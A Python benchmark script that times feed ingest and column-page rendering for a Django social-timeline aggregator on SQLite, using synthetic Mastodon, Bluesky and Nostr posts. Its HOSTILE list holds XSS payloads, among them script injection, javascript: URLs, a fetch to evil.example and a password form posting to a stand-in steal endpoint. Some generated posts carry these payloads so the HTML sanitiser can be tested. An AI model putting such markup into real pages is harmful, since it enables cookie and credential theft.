"""The deck benchmark: ingest throughput and column page server time on SQLite.

    uv run python bench/deck.py                      # the full run: 1,000,000 items, 20 accounts
    uv run python bench/deck.py --items 100000       # quick mode (about two minutes)

One run, in one process, against a throwaway data dir (the default SQLite profile of
settings.py: WAL, synchronous=NORMAL, IMMEDIATE transactions):

1. migrate; one user; `--connections` Connection rows spread over mastodon, bluesky and nostr
   (credentials encrypted as usual, never used); one "home" feed each.
2. `--items` realistic `networks.base.Item`s (20-500 characters with links, mentions and
   hashtags, network-shaped HTML, hostile markup nh3 must clean, media with alt text, cards,
   quotes, reposts, replies, content warnings, created over `--days` days) go through
   `timeline.ingest.ingest()` in polling-sized batches of 40-100, the accounts' polls
   interleaved in time, each poll re-reading a few items of the previous one (some with changed
   counts) as real polls overlap. Only the time inside `ingest()` is counted: generating the
   items is not.
3. A deck with a single-feed column and a merged 5-feed "Home everywhere" column (made by
   `timeline.services.add_column`, as the web form does). The column page
   (`timeline:column`, the HTML a browser gets without JavaScript, and its htmx fragment for
   infinite scroll) is requested through Django's test Client, in-process, logged in with
   force_login: the first page and deep pages (`before` cursors far back in the history),
   `--requests` timed requests per case after `--warmup` untimed ones. The selector alone
   (`selectors.column_page`) is timed on the same cursors, so the view + template share shows.
   Then the first page with a new SQLite connection per request (CONN_MAX_AGE=0, as served),
   and while a thread of the same process ingests (one poll a second; without pause).
4. Peak RSS, the database size (and what takes the space), the machine, the versions.

Nothing touches a network: HUBBUB_READ_NETWORKS=0, no worker is started, and every outbound
socket connect or DNS lookup in this process raises (the column view reads older items from
the network only when the store runs short, which the chosen cursors never do: the bench
fails loudly if it tries).

Results print as Markdown (paste into docs/benchmarks.md) and, with --json, as JSON.
`--profile DIR` afterwards profiles extra ingest batches and column requests with cProfile
(or pyinstrument if installed: `uv run --with pyinstrument python bench/deck.py ...`) and
writes the reports to DIR; profiling never runs during the timed phases.

Never run this as a timed unit test: the numbers belong to one quiet machine.
"""

from __future__ import annotations

import argparse
import contextlib
import cProfile
import gc
import hashlib
import heapq
import html
import io
import json
import os
import platform
import pstats
import random
import resource
import shutil
import signal
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

TARGETS = {"column_p95_ms": 30.0, "merged_p95_ms": 50.0, "ingest_items_per_s": 10_000.0}
NETWORKS = ("mastodon", "bluesky", "nostr")
MERGED_FEEDS = 5


# --- no network, ever ----------------------------------------------------------------------------


class NetworkUsed(RuntimeError):
    pass


def forbid_network() -> None:
    """Every outbound connect and DNS lookup in this process raises (unix sockets still work)."""
    real_connect = socket.socket.connect
    real_connect_ex = socket.socket.connect_ex

    def connect(self: socket.socket, address: Any) -> None:
        if self.family == socket.AF_UNIX:
            return real_connect(self, address)
        raise NetworkUsed(f"bench: network connect to {address!r} refused")

    def connect_ex(self: socket.socket, address: Any) -> int:
        if self.family == socket.AF_UNIX:
            return real_connect_ex(self, address)
        raise NetworkUsed(f"bench: network connect to {address!r} refused")

    def getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
        raise NetworkUsed(f"bench: DNS lookup of {host!r} refused")

    socket.socket.connect = connect  # type: ignore[method-assign]
    socket.socket.connect_ex = connect_ex  # type: ignore[method-assign]
    socket.getaddrinfo = getaddrinfo


# --- the machine ---------------------------------------------------------------------------------


def machine() -> dict[str, Any]:
    cpu = ""
    with contextlib.suppress(OSError):
        for line in Path("/proc/cpuinfo").read_text().splitlines():
            if line.startswith("model name"):
                cpu = line.split(":", 1)[1].strip()
                break
    mem_kb = 0
    with contextlib.suppress(OSError, ValueError, IndexError):
        for line in Path("/proc/meminfo").read_text().splitlines():
            if line.startswith("MemTotal:"):
                mem_kb = int(line.split()[1])
    from importlib.metadata import version

    import django

    import hubbub

    source = Path(hubbub.__file__).resolve().parent  # .../src/hubbub, wherever it was imported
    commit = _git(source, "rev-parse", "--short", "HEAD")
    dirty = bool(_git(source, "status", "--porcelain", "--", "."))
    return {
        "date": datetime.now(UTC).strftime("%Y-%m-%d %H:%M UTC"),
        "nproc": len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity")
        else os.cpu_count(),
        "cpu": cpu or platform.processor() or "unknown",
        "memory_gib": round(mem_kb / 1024 / 1024, 1),
        "kernel": platform.release(),
        "python": platform.python_version(),
        "django": django.get_version(),
        "sqlite": sqlite3.sqlite_version,
        "nh3": version("nh3"),
        "commit": (commit or "unknown") + (" (src/hubbub has uncommitted changes)" if dirty
                                           else ""),
        "source": str(source),
    }


def _git(where: Path, *args: str) -> str:
    try:
        out = subprocess.run(["git", *args], cwd=where, capture_output=True, text=True,
                             timeout=10, check=False)
    except (OSError, subprocess.SubprocessError):
        return ""
    return out.stdout.strip()


def run_queue_seconds() -> float:
    """Seconds this thread has spent runnable but waiting for a CPU (0 where unknown)."""
    try:
        return int(Path("/proc/thread-self/schedstat").read_text().split()[1]) / 1e9
    except (OSError, IndexError, ValueError):
        return 0.0


def rss_mib() -> float:
    with contextlib.suppress(OSError, ValueError):
        for line in Path("/proc/self/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def peak_rss_mib() -> float:
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # KiB on Linux


def log(message: str) -> None:
    print(f"[{time.strftime('%H:%M:%S')}] {message}", file=sys.stderr, flush=True)


# --- realistic items -----------------------------------------------------------------------------

_WORD_LIST = (
    "the of and to in is that it for on with as was at by this be from or are an have not "
    "but they his her she he we you all were when one there their what so up out if about who "
    "get which go me just know time people year good some could them see other than then now "
    "look only come its over think also back after use two how our work first well way even new "
    "want because any these give day most us release update server instance federation timeline "
    "post thread reply boost coffee morning weather rain sunshine garden cat dog photo music "
    "concert book reading writing code python rust django sqlite database deploy bug fix feature "
    "open source community moderation policy network protocol relay feed column deck hashtag "
    "mention link article news science climate election city train bike walk lunch dinner recipe "
    "bread cheese tea weekend holiday travel museum art painting game match team score goal "
    "conference talk slides video stream podcast episode interview question answer today "
    "tomorrow yesterday really very quite maybe perhaps finally again still already soon"
)
WORDS = tuple(_WORD_LIST.split())
INTL = ("café", "naïve", "Zürich", "São Paulo", "façade", "smörgåsbord", "東京", "こんにちは",
        "мир", "привет", "Ελλάδα", "שלום", "مرحبا", "한국어", "crème brûlée", "Ærø")
EMOJI = ("🎉", "🚀", "☕", "🐘", "🦋", "💜", "😂", "🙏", "🔥", "👀", "🌧️", "🐈", "📷", "🧵")
TAGS = ("python", "django", "fediverse", "photography", "caturday", "rust", "sqlite",
        "climate", "music", "books", "opensource", "bluesky", "nostr", "art", "news",
        "gardening", "running", "coffee", "linux", "privacy")
SITES = ("news.example.com", "blog.example.org", "www.example.net", "docs.example.dev",
         "video.example.tv", "papers.example.edu")
# Markup a hostile or broken server might send; nh3 must leave nothing of it that runs.
HOSTILE = (
    '<script>alert(document.cookie)</script>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="JaVaScRiPt:fetch(\'//evil.example\')">win</a>',
    '<p onclick="steal()" style="position:fixed;inset:0;z-index:9999">overlay</p>',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<style>*{display:none!important}</style>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<a href="vbscript:msgbox(1)" onmouseover="alert(1)">hover</a>',
    '<div style="background:url(javascript:alert(1))">css</div>',
    '<!-- <script>alert(1)</script> --><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
)
CWS = ("politics", "food", "eye contact", "spoilers", "mental health", "long post", "US news",
       "lewd (joke)", "alcohol", "medical")
ALTS = ("A cat sleeping on a keyboard.", "Screenshot of a terminal with a stack trace.",
        "A sunset over the sea, orange and purple clouds.", "Chart: requests per second, "
        "rising steeply after the release.", "Two people at a conference table, laughing.",
        "A bowl of ramen with an egg.", "")


@dataclass
class Author:
    handle: str
    name: str
    avatar: str
    url: str
    did: str = ""


@dataclass
class Account:
    """One connection's home timeline, as the bench plays it back."""

    index: int
    network: str
    host: str
    pk: int = 0
    feed: Any = None
    follows: list[Author] = field(default_factory=list)
    total: int = 0
    made: int = 0
    last_batch: list[Any] = field(default_factory=list)


class Generator:
    """Network-shaped items, as the connectors hand them to ingest."""

    def __init__(self, rng: random.Random, start: datetime, days: float) -> None:
        self.rng = rng
        self.start = start
        self.span = timedelta(days=days)
        self.authors = {net: [self._author(net, n) for n in range(3000)] for net in NETWORKS}
        self.seq = 0

    # people

    def _author(self, network: str, n: int) -> Author:
        rng = self.rng
        user = f"{rng.choice(WORDS)}{rng.choice(WORDS)}{n}"
        name = user.title()
        if rng.random() < 0.15:
            name = f"{name} {rng.choice(EMOJI)}"
        elif rng.random() < 0.1:
            name = f"{rng.choice(INTL)} {name}"
        if network == "mastodon":
            host = f"mastodon{n % 40}.example"
            return Author(f"@{user}@{host}", name,
                          f"https://files.{host}/accounts/avatars/{n:06d}/original/a.png",
                          f"https://{host}/@{user}")
        if network == "bluesky":
            did = f"did:plc:{hashlib.sha1(user.encode()).hexdigest()[:24]}"
            handle = f"{user}.bsky.example"
            return Author(f"@{handle}", name,
                          f"https://cdn.bsky.example/img/avatar/plain/{did}/bafkrei{n:08d}@jpeg",
                          f"https://bsky.example/profile/{handle}", did=did)
        pubkey = hashlib.sha256(user.encode()).hexdigest()
        npub = "npub1" + pubkey[:58]
        return Author(npub, name, f"https://nostr.build.example/i/{pubkey[:16]}.jpg",
                      f"https://njump.example/{npub}", did=pubkey)

    # text

    def _length(self) -> int:
        roll = self.rng.random()
        if roll < 0.5:
            return self.rng.randint(20, 140)
        if roll < 0.85:
            return self.rng.randint(140, 300)
        return self.rng.randint(300, 500)

    def _tokens(self, network: str) -> list[tuple[str, str]]:
        """(kind, value) tokens adding up to 20-500 characters: words, mentions, hashtags,
        links, emoji, paragraph breaks."""
        rng = self.rng
        target = self._length()
        size = 0
        links = 0
        tokens: list[tuple[str, str]] = []
        while size < target:
            roll = rng.random()
            if roll < 0.035 and links < 2:
                links += 1
                site = rng.choice(SITES)
                slug = "-".join(rng.choice(WORDS) for _ in range(rng.randint(2, 6)))
                value = f"https://{site}/{rng.randint(2019, 2026)}/{slug}"
                if rng.random() < 0.3:
                    value += f"?utm_source=fedi&id={rng.randint(1, 10**6)}"
                tokens.append(("link", value))
            elif roll < 0.075:
                tokens.append(("mention", rng.choice(self.authors[network]).handle))
            elif roll < 0.11:
                tokens.append(("tag", rng.choice(TAGS)))
            elif roll < 0.125:
                tokens.append(("word", rng.choice(EMOJI)))
            elif roll < 0.14:
                tokens.append(("word", rng.choice(INTL)))
            elif roll < 0.15 and size > 60:
                tokens.append(("break", "\n\n"))
            else:
                tokens.append(("word", rng.choice(WORDS)))
            size += len(tokens[-1][1]) + 1
        return tokens

    @staticmethod
    def _text(tokens: Sequence[tuple[str, str]]) -> str:
        out: list[str] = []
        for kind, value in tokens:
            if kind == "break":
                out.append("\n\n")
                continue
            if out and not out[-1].endswith("\n"):
                out.append(" ")
            out.append(f"#{value}" if kind == "tag" else value)
        return "".join(out).strip()

    def _mastodon_html(self, tokens: Sequence[tuple[str, str]], host: str) -> str:
        paragraphs: list[list[str]] = [[]]
        for kind, value in tokens:
            if kind == "break":
                paragraphs.append([])
            elif kind == "word":
                paragraphs[-1].append(html.escape(value))
            elif kind == "tag":
                paragraphs[-1].append(
                    f'<a href="https://{host}/tags/{value}" class="mention hashtag" '
                    f'rel="tag">#<span>{value}</span></a>')
            elif kind == "mention":
                user = value.lstrip("@").split("@")[0]
                paragraphs[-1].append(
                    f'<span class="h-card" translate="no"><a href="https://{host}/@{user}" '
                    f'class="u-url mention">@<span>{html.escape(user)}</span></a></span>')
            else:
                bare = value.split("://", 1)[1]
                paragraphs[-1].append(
                    f'<a href="{html.escape(value)}" target="_blank" rel="nofollow noopener '
                    f'noreferrer" translate="no"><span class="invisible">https://</span>'
                    f'<span class="ellipsis">{html.escape(bare[:30])}</span><span '
                    f'class="invisible">{html.escape(bare[30:])}</span></a>')
        return "".join(f"<p>{' '.join(p)}</p>" for p in paragraphs if p)

    @staticmethod
    def _bluesky_html(tokens: Sequence[tuple[str, str]]) -> str:
        out: list[str] = []
        for kind, value in tokens:
            if kind == "break":
                out.append("<br><br>")
                continue
            if out and not out[-1].endswith("<br>"):
                out.append(" ")
            if kind == "word":
                out.append(html.escape(value))
            elif kind == "tag":
                out.append(f'<a href="https://bsky.example/hashtag/{value}">#{value}</a>')
            elif kind == "mention":
                out.append(f'<a href="https://bsky.example/profile/{value.lstrip("@")}">'
                           f"{html.escape(value)}</a>")
            else:
                out.append(f'<a href="{html.escape(value)}">{html.escape(value)}</a>')
        return "".join(out).strip()

    # items

    def remote_id(self, account: Account, author: Author, when: datetime, repost: bool) -> str:
        self.seq += 1
        if account.network == "mastodon":
            # Snowflake-like: milliseconds << 16 | sequence, as Mastodon ids are.
            return str((int(when.timestamp() * 1000) << 16) | (self.seq & 0xFFFF))
        if account.network == "bluesky":
            tid = _tid(int(when.timestamp() * 1_000_000), self.seq)
            collection = "app.bsky.feed.repost" if repost else "app.bsky.feed.post"
            return f"at://{author.did}/{collection}/{tid}"
        return hashlib.sha256(f"{account.index}:{self.seq}".encode()).hexdigest()

    def item(self, account: Account, when: datetime) -> Any:
        from hubbub.networks.base import Item

        rng = self.rng
        network = account.network
        author = rng.choice(account.follows)
        extra: dict[str, Any] = {}
        kind = "post"
        repost = rng.random() < 0.15
        booster = author
        if repost:
            # A repost shows someone else's post, attributed to the follow who reposted it.
            kind = "repost"
            author = rng.choice(self.authors[network])
            extra["reposted_by"] = booster.handle
            extra["reposted_by_name"] = booster.name
        elif rng.random() < 0.2:
            kind = "reply"
            parent = rng.choice(self.authors[network])
            extra["in_reply_to"] = self.remote_id(account, parent, when, False)
            extra["in_reply_to_handle"] = parent.handle
        tokens = self._tokens(network)
        text = self._text(tokens)
        if network == "mastodon":
            markup = self._mastodon_html(tokens, account.host)
        elif network == "bluesky":
            markup = self._bluesky_html(tokens)
        else:
            markup = ""  # Nostr sends plain text: ingest makes the HTML
        url_author = author
        if rng.random() < 0.02:
            # Hostile content: markup for nh3 on networks that send HTML, and as text elsewhere
            # (where it must come out escaped). Sometimes in the URL fields too.
            payload = rng.choice(HOSTILE)
            if markup:
                markup = markup + payload if rng.random() < 0.5 else payload + markup
            text = f"{text} {payload}"
            if rng.random() < 0.3:
                url_author = Author(author.handle, author.name,
                                    "javascript:alert(1)", "data:text/html,<script>x</script>")
        remote_id = self.remote_id(account, author, when, repost)
        if repost:
            extra["original_id"] = self.remote_id(account, author, when, False)
        if network == "mastodon":
            extra["visibility"] = rng.choice(("public", "public", "public", "unlisted",
                                              "private"))
            if rng.random() < 0.06:
                extra["content_warning"] = rng.choice(CWS)
                extra["sensitive"] = True
            url = f"{author.url}/{remote_id}"
        elif network == "bluesky":
            extra["uri"] = remote_id
            extra["cid"] = "bafyrei" + hashlib.blake2b(remote_id.encode(),
                                                       digest_size=20).hexdigest()
            extra["langs"] = ["en"]
            url = f"{author.url}/post/{remote_id.rsplit('/', 1)[-1]}"
        else:
            extra["nostr_kind"] = 6 if repost else 1
            tags = [value for kind_, value in tokens if kind_ == "tag"]
            if tags:
                extra["hashtags"] = tags
            if rng.random() < 0.02:
                extra["content_warning"] = rng.choice(CWS)
            url = f"https://njump.example/nevent1{remote_id[:50]}"
        if rng.random() < 0.22:
            extra["media"] = self._media(network, remote_id)
            if rng.random() < 0.2:
                extra["sensitive"] = True
        elif network != "nostr" and rng.random() < 0.15:
            site = rng.choice(SITES)
            extra["card"] = {
                "url": f"https://{site}/{rng.choice(WORDS)}-{rng.randint(1, 99999)}",
                "title": " ".join(rng.choice(WORDS) for _ in range(rng.randint(3, 12))).title(),
                "description": " ".join(rng.choice(WORDS) for _ in range(rng.randint(0, 40))),
                "image": f"https://cdn.{site}/og/{rng.randint(1, 99999)}.jpg"
                if rng.random() < 0.7 else "",
            }
        if network != "nostr" and kind == "post" and rng.random() < 0.05:
            quoted = rng.choice(self.authors[network])
            kind = "quote"
            extra["quote"] = {
                "uri": self.remote_id(account, quoted, when, False),
                "url": f"{quoted.url}/{self.seq}",
                "author_handle": quoted.handle,
                "author_name": quoted.name,
                "text": self._text(self._tokens(network))[:300],
            } if rng.random() < 0.9 else {"uri": "", "unavailable": "deleted"}
        if network != "nostr":
            extra["counts"] = self._counts()
            if rng.random() < 0.03:
                extra["liked"] = True
            if rng.random() < 0.01:
                extra["reposted"] = True
        extra["author_url"] = url_author.url
        return Item(
            remote_id=remote_id,
            kind=kind,
            author_handle=author.handle,
            author_name=author.name,
            created_at=when,
            text=text,
            html=markup,
            url=url,
            author_avatar=url_author.avatar,
            extra=extra,
        )

    def _counts(self) -> dict[str, int]:
        rng = self.rng
        like = int(rng.paretovariate(1.2)) - 1
        return {"reply": like // 7, "repost": like // 4, "like": like, "quote": like // 40}

    def _media(self, network: str, remote_id: str) -> list[dict[str, str]]:
        rng = self.rng
        count = rng.choice((1, 1, 1, 1, 2, 2, 3, 4))
        key = hashlib.md5(remote_id.encode()).hexdigest()[:16]
        media = []
        for n in range(count):
            kind = "image" if rng.random() < 0.92 else rng.choice(("video", "gifv"))
            if network == "mastodon":
                base = f"https://files.mastodon.example/media_attachments/files/{key}/{n}"
                url, preview = f"{base}/original.png", f"{base}/small.png"
            elif network == "bluesky":
                base = f"https://cdn.bsky.example/img/feed_fullsize/plain/{key}{n}"
                url, preview = f"{base}@jpeg", f"{base}@jpeg".replace("fullsize", "thumbnail")
            else:
                url = preview = f"https://nostr.build.example/i/{key}{n}.jpg"
            media.append({"type": kind, "url": url, "preview_url": preview,
                          "description": rng.choice(ALTS)})
        return media

    def reread(self, item: Any) -> Any:
        """The same item read again by an overlapping poll; half the time its counts moved."""
        from dataclasses import replace

        if self.rng.random() < 0.5 or "counts" not in item.extra:
            return item
        counts = dict(item.extra["counts"])
        counts["like"] += self.rng.randint(1, 5)
        return replace(item, extra={**item.extra, "counts": counts})


_B32 = "234567abcdefghijklmnopqrstuvwxyz"


def _tid(micros: int, seq: int) -> str:
    value = (micros << 10) | (seq & 0x3FF)
    chars = []
    for _ in range(13):
        chars.append(_B32[value & 31])
        value >>= 5
    return "".join(reversed(chars))


# --- set-up ---------------------------------------------------------------------------------------


def make_accounts(count: int, rng: random.Random, gen: Generator) -> tuple[Any, list[Account]]:
    from django.contrib.auth.models import User

    from hubbub.connections.models import Connection
    from hubbub.timeline import selectors

    user = User.objects.create_user("bench", password=f"bench-{rng.random()}")
    accounts: list[Account] = []
    for index in range(count):
        network = NETWORKS[index % len(NETWORKS)]
        me = gen.authors[network][index]
        host = me.handle.rsplit("@", 1)[-1] if network == "mastodon" else ""
        connection = Connection(
            user=user, network=network,
            base_url={"mastodon": f"https://{host}", "bluesky": "https://bsky.social.example",
                      "nostr": "wss://relay.example"}[network],
            remote_id=me.did or str(100000 + index), handle=me.handle, display_name=me.name,
            avatar_url=me.avatar, profile_url=me.url,
        )
        connection.credentials = {
            "mastodon": {"access_token": hashlib.sha256(f"token{index}".encode()).hexdigest()},
            "bluesky": {"identifier": me.handle.lstrip("@"), "app_password": "abcd-efgh-ijkl-mnop",
                        "access_jwt": "eyJ" + "x" * 200, "refresh_jwt": "eyJ" + "y" * 200},
            "nostr": {"secret_key": hashlib.sha256(f"nsec{index}".encode()).hexdigest(),
                      "relays": ["wss://relay.example", "wss://nos.example"]},
        }[network]
        connection.save()
        account = Account(index=index, network=network, host=host or "bsky.example",
                          pk=connection.pk)
        account.feed = selectors.ensure_feed(connection, "home")
        account.follows = rng.sample(gen.authors[network], 300)
        accounts.append(account)
    return user, accounts


def schedule(accounts: Sequence[Account], total: int, rng: random.Random,
             gen: Generator, batch_min: int, batch_max: int) -> Iterator[tuple[Account, int]]:
    """(account, batch size) in time order: each account polled in turn, as the worker would,
    the busiest timeline first when two are due together."""
    per = total // len(accounts)
    for n, account in enumerate(accounts):
        account.total = per + (1 if n < total % len(accounts) else 0)
    heap = [(0.0, a.index) for a in accounts]
    heapq.heapify(heap)
    by_index = {a.index: a for a in accounts}
    while heap:
        _at, index = heapq.heappop(heap)
        account = by_index[index]
        size = min(rng.randint(batch_min, batch_max), account.total - account.made)
        if size <= 0:
            continue
        yield account, size
        if account.made < account.total:
            heapq.heappush(heap, (account.made / account.total, index))


def make_batch(account: Account, size: int, gen: Generator, overlap: int) -> list[Any]:
    """The next `size` items of the account's timeline, newest first (as the networks answer),
    plus up to `overlap` items of its previous poll read again."""
    rng = gen.rng
    step = gen.span / account.total
    items = []
    for n in range(account.made, account.made + size):
        when = gen.start + step * n + step * rng.random() * 0.9
        items.append(gen.item(account, when))
    account.made += size
    items.reverse()
    again = [gen.reread(item) for item in account.last_batch[:rng.randint(0, overlap)]]
    account.last_batch = items
    return items + again


# --- ingest ---------------------------------------------------------------------------------------


@dataclass
class IngestStats:
    seconds: float = 0.0
    cpu_seconds: float = 0.0  # this thread's CPU time inside ingest()
    # Inside ingest(), this thread runnable but waiting for a CPU (other processes had them),
    # from /proc/thread-self/schedstat; what is neither CPU nor this is waiting for I/O/locks.
    cpu_wait_seconds: float = 0.0
    generate_seconds: float = 0.0
    wall_seconds: float = 0.0
    batches: int = 0
    offered: int = 0
    new: int = 0
    updated: int = 0
    unchanged: int = 0
    skipped: int = 0
    batch_ms: list[float] = field(default_factory=list)
    loads: list[float] = field(default_factory=list)


def run_ingest(accounts: Sequence[Account], args: argparse.Namespace,
               gen: Generator) -> IngestStats:
    from hubbub.timeline.ingest import ingest

    stats = IngestStats()
    report_every = max(args.items // 10, 1)
    next_report = report_every
    started = time.perf_counter()
    for account, size in schedule(accounts, args.items, gen.rng, gen, args.batch_min,
                                  args.batch_max):
        g0 = time.perf_counter()
        batch = make_batch(account, size, gen, args.overlap)
        w0 = run_queue_seconds()
        c0 = time.thread_time()
        t0 = time.perf_counter()
        result = ingest(account.feed, batch)
        t1 = time.perf_counter()
        stats.cpu_seconds += time.thread_time() - c0
        stats.cpu_wait_seconds += run_queue_seconds() - w0
        stats.generate_seconds += t0 - g0
        stats.seconds += t1 - t0
        stats.batch_ms.append((t1 - t0) * 1000)
        stats.batches += 1
        stats.offered += len(batch)
        stats.new += len(result.new_item_ids)
        stats.updated += len(result.updated_item_ids)
        stats.skipped += result.skipped
        stats.unchanged += (len(result.item_ids) - len(result.new_item_ids)
                            - len(result.updated_item_ids))
        if stats.new >= next_report:
            next_report += report_every
            stats.loads.append(load_average())
            log(f"ingest {stats.new:>9,} new items, {stats.new / stats.seconds:8,.0f} items/s "
                f"(in ingest {stats.seconds:6.1f} s, generating {stats.generate_seconds:6.1f} s,"
                f" RSS {rss_mib():.0f} MiB, load {stats.loads[-1]:.1f})")
    stats.wall_seconds = time.perf_counter() - started
    return stats


# --- the columns ----------------------------------------------------------------------------------


def make_columns(user: Any, accounts: Sequence[Account]) -> tuple[Any, Any, Any]:
    from django.utils import timezone

    from hubbub.connections.models import Connection
    from hubbub.timeline import services

    deck = services.create_deck(user, "Bench")
    first = Connection.objects.get(pk=accounts[0].pk)
    single = services.add_column(deck, connections=[first], kind="home")
    # Five accounts of all three networks (indexes 0..4 cycle mastodon, bluesky, nostr).
    merged_connections = list(Connection.objects.filter(
        pk__in=[a.pk for a in accounts[:MERGED_FEEDS]]))
    merged = services.add_column(deck, connections=merged_connections, kind="home",
                                 title="Home everywhere")
    for column in (single, merged):
        services.mark_read(column, timezone.now())  # a column starts read, as the deck does
    return deck, single, merged


def deep_cursors(column: Any, count: int, rng: random.Random, page: int,
                 lowest: float, highest: float) -> list[tuple[Any, int, int]]:
    """(created_at, item id, depth) of items between `lowest` and `highest` of the way down the
    column's history (a merged column: its feeds', by time), each with a full page below."""
    from hubbub.timeline.models import FeedEntry

    feed_ids = list(column.feeds.values_list("pk", flat=True))
    history = list(FeedEntry.objects.filter(feed_id__in=feed_ids)
                   .order_by("-created_at", "-item_id").values_list("created_at", "item_id"))
    total = len(history)
    cursors = []
    for _ in range(count):
        depth = min(int(total * rng.uniform(lowest, highest)), total - page * 2)
        at, item_id = history[depth]
        cursors.append((at, item_id, depth))
    return cursors


@dataclass
class Timing:
    name: str
    wall_ms: list[float]
    cpu_ms: list[float]  # this thread's CPU time: what the request costs without contention
    queries: int = 0
    bytes: int = 0
    items: int = 0
    load: tuple[float, float] = (0.0, 0.0)  # 1-minute load average before and after

    def summary(self) -> dict[str, Any]:
        s = sorted(self.wall_ms)
        q = statistics.quantiles(s, n=100, method="inclusive")
        c = sorted(self.cpu_ms)
        cq = statistics.quantiles(c, n=100, method="inclusive")
        return {
            "name": self.name, "n": len(s), "p50": statistics.median(s), "p95": q[94],
            "p99": q[98], "mean": statistics.fmean(s), "max": s[-1], "min": s[0],
            "cpu_p50": statistics.median(c), "cpu_p95": cq[94], "cpu_p99": cq[98],
            "queries": self.queries, "bytes": self.bytes, "items": self.items,
            "load_before": self.load[0], "load_after": self.load[1],
        }


def load_average() -> float:
    return os.getloadavg()[0]


@contextlib.contextmanager
def count_queries() -> Iterator[list[str]]:
    """The SQL statements run on the default connection inside the block."""
    from django.db import connection as db

    seen: list[str] = []

    def wrapper(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
        seen.append(sql)
        return execute(sql, params, many, context)

    with db.execute_wrapper(wrapper):
        yield seen


def timed(fn: Callable[[int], Any], n: int, warmup: int,
          before_each: Callable[[], Any] | None = None) -> tuple[list[float], list[float]]:
    """Wall and CPU milliseconds of n calls, after `warmup` untimed ones."""
    wall, cpu = [], []
    for i in range(warmup + n):
        if before_each is not None:
            before_each()
        c0 = time.thread_time()
        t0 = time.perf_counter()
        fn(i)
        t1 = time.perf_counter()
        c1 = time.thread_time()
        if i >= warmup:
            wall.append((t1 - t0) * 1000)
            cpu.append((c1 - c0) * 1000)
    return wall, cpu


def measure_pages(user: Any, single: Any, merged: Any, args: argparse.Namespace,
                  rng: random.Random) -> tuple[list[Timing], dict[str, Any]]:
    from django.db import connections
    from django.test import Client
    from django.urls import reverse

    from hubbub.timeline import selectors, views
    from hubbub.timeline.cursors import encode_cursor

    page = views.PAGE_SIZE
    client = Client(SERVER_NAME="localhost")
    client.force_login(user)
    fragment = {"HX-Request": "true"}
    results: list[Timing] = []
    cursor_info: dict[str, Any] = {}

    def record(timing: Timing) -> None:
        results.append(timing)
        row = timing.summary()
        log(f"{timing.name:<46} p50 {row['p50']:6.2f}  p95 {row['p95']:6.2f}  "
            f"p99 {row['p99']:6.2f} ms   cpu p50 {row['cpu_p50']:6.2f}  "
            f"p95 {row['cpu_p95']:6.2f} ms   load {row['load_before']:.1f}  "
            f"RSS {rss_mib():.0f}/{peak_rss_mib():.0f} MiB")

    def case(name: str, column: Any, cursors: Sequence[tuple[Any, int, int]] | None,
             headers: dict[str, str] | None = None, reconnect: bool = False) -> None:
        url = reverse("timeline:column", args=[column.pk])
        tokens = [encode_cursor(at, pk) for at, pk, _d in cursors] if cursors else [""]

        def get(i: int) -> Any:
            token = tokens[i % len(tokens)]
            return client.get(url, {"before": token} if token else {}, headers=headers)

        # What CONN_MAX_AGE=0 does when served: the next request opens SQLite anew.
        before_each = connections.close_all if reconnect else None
        # Check what the timed requests get: 200, a full page of items, never the network;
        # count the statements of a request after the first.
        get(0)
        with count_queries() as queries:
            response = get(0)
        body = response.content
        count = body.count(b'<article class="item')
        if response.status_code != 200 or count != page:
            raise SystemExit(f"{name}: status {response.status_code}, {count} items")
        load = load_average()
        wall, cpu = timed(get, args.requests, args.warmup, before_each)
        record(Timing(name, wall, cpu, len(queries), len(body), count,
                      (load, load_average())))

    def selector_case(name: str, column: Any,
                      cursors: Sequence[tuple[Any, int, int]] | None) -> None:
        befores = [(at, pk) for at, pk, _d in cursors] if cursors else [None]

        def run(i: int) -> Any:
            return selectors.column_page(column, before=befores[i % len(befores)], limit=page)

        with count_queries() as queries:
            got = run(0)
        if len(got) != page:
            raise SystemExit(f"{name}: {len(got)} items")
        load = load_average()
        wall, cpu = timed(run, args.requests, args.warmup)
        record(Timing(name, wall, cpu, len(queries), 0, len(got), (load, load_average())))

    deep_single = deep_cursors(single, args.cursors, rng, page, 0.5, 0.999)
    deep_merged = deep_cursors(merged, args.cursors, rng, page, 0.5, 0.999)
    for label, cursors in (("single", deep_single), ("merged", deep_merged)):
        depths = [d for _a, _p, d in cursors]
        oldest = min(at for at, _p, _d in cursors)
        cursor_info[label] = {"count": len(cursors), "min_depth": min(depths),
                              "max_depth": max(depths), "oldest": oldest.date().isoformat()}

    for label, column, cursors in (("single-feed", single, deep_single),
                                   ("merged 5-feed", merged, deep_merged)):
        case(f"{label} column page, first page", column, None)
        case(f"{label} column page, deep pages", column, cursors)
        case(f"{label} htmx fragment, deep pages", column, cursors, headers=fragment)
        selector_case(f"{label} selector only, first page", column, None)
        selector_case(f"{label} selector only, deep pages", column, cursors)
    case("single-feed first page, new DB connection each request", single, None,
         reconnect=True)
    return results, cursor_info


# --- a column page while ingest runs ----------------------------------------------------------


def measure_during_ingest(user: Any, column: Any, accounts: Sequence[Account], gen: Generator,
                          args: argparse.Namespace, name: str,
                          pause: float) -> tuple[Timing, dict[str, Any]]:
    """The single-feed first page while another thread ingests polls of 40-100 new items,
    `pause` seconds apart (0: a backlog worked off without pause), as `hubbub serve` runs its
